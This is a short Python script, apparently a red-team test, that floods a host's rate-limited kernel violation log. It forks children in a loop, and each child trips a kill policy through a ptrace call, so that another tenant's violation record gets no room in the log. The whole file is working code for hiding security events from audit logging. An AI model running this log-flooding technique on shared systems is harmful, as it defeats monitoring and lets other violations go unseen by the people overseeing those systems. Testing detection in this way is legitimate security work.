# Hide a violation in a crowd: trip the policy in a loop (a child per kill) so the kernel's log,
# rate-limited host-wide at 10 records per 5 s, has no room left for another tenant's record.
import ctypes
import os
import sys
import time

libc = ctypes.CDLL(None, use_errno=True)
seconds = float(sys.argv[1]) if len(sys.argv) > 1 else 6.0
print("REDTEAM tripwire flood", flush=True)
kills, end = 0, time.monotonic() + seconds
while time.monotonic() < end:
    pid = os.fork()
    if pid == 0:
        libc.ptrace(0, 0, None, None)
        os._exit(0)
    _, status = os.waitpid(pid, 0)
    kills += os.WIFSIGNALED(status)
print("killed children:", "many" if kills > 100 else kills)
